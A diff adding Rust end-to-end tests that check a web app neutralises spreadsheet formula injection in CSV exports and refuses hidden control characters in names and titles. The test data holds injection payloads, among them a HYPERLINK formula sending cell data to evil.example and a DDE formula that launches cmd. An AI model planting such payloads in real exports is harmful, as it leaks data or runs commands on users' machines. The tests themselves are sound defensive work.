@@ -267,3 +267,101 @@ e2e!(
         assert!((value - 1.0 / 3.0).abs() < 1e-9, "{value}");
     }
 );
+
+e2e!(
+    a_formula_planted_in_a_project_title_is_plain_text_in_the_csv_export,
+    |app| async move {
+        let t = Tenants::build(&app).await;
+        // B names A as a party, so the project lands in A's export.
+        let planted = [
+            r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
+            "+1+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(1+1)",
+        ];
+        for title in planted {
+            t.ok(
+                Who::B,
+                CREATE_PROJECT,
+                json!({"input": {"title": title, "area": "OTHER",
+                    "partyOrganizationIds": [t.w.org_b, t.w.org_a]}}),
+            )
+            .await;
+        }
+        let (status, body) = t.rest(Who::A, "/api/v1/projects.csv").await;
+        assert_eq!(status, 200, "{body}");
+        let mut reader = csv::Reader::from_reader(body.trim_start_matches('\u{feff}').as_bytes());
+        let title = reader
+            .headers()
+            .unwrap()
+            .iter()
+            .position(|h| h == "title")
+            .expect("a title column");
+        let titles: Vec<String> = reader
+            .records()
+            .map(|r| r.unwrap()[title].to_owned())
+            .collect();
+        for planted in planted {
+            assert!(
+                titles.contains(&format!("'{planted}")),
+                "{planted} is not neutralised: {titles:?}"
+            );
+        }
+        // No cell of the file starts a formula.
+        let mut reader = csv::Reader::from_reader(body.trim_start_matches('\u{feff}').as_bytes());
+        for record in reader.records() {
+            for cell in record.unwrap().iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell}"
+                );
+            }
+        }
+        // The title itself is kept as written.
+        let data = t
+            .ok(
+                Who::A,
+                "{ projects(first: 100) { nodes { title } } }",
+                json!({}),
+            )
+            .await;
+        assert!(data.to_string().contains("-2+3"), "{data}");
+    }
+);
+
+e2e!(
+    hidden_characters_are_refused_in_names_and_titles,
+    |app| async move {
+        let t = Tenants::build(&app).await;
+        // NUL, the C1 "next line" that iCalendar readers take as a line
+        // break, and a right-to-left override that disguises a text.
+        for bad in [
+            "SEM\u{0}",
+            "SEM\u{85}DTSTART:19700101",
+            "SEM \u{202E}gnp.exe",
+        ] {
+            t.refused(
+                Who::UStaff,
+                "mutation($input: UpdateInstrumentInput!) { updateInstrument(input: $input) { instrument { id } } }",
+                json!({"input": {"id": t.instrument, "name": bad}}),
+                "BAD_USER_INPUT",
+            )
+            .await;
+            t.refused(
+                Who::A,
+                CREATE_PROJECT,
+                json!({"input": {"title": bad, "area": "OTHER", "partyOrganizationIds": [t.w.org_a]}}),
+                "BAD_USER_INPUT",
+            )
+            .await;
+        }
+        let (status, ics) = t
+            .rest(
+                Who::A,
+                &format!("/api/v1/instruments/{}/calendar.ics", t.instrument),
+            )
+            .await;
+        assert_eq!(status, 200);
+        assert!(!ics.contains(['\u{0}', '\u{85}', '\u{202E}']), "{ics}");
+    }
+);
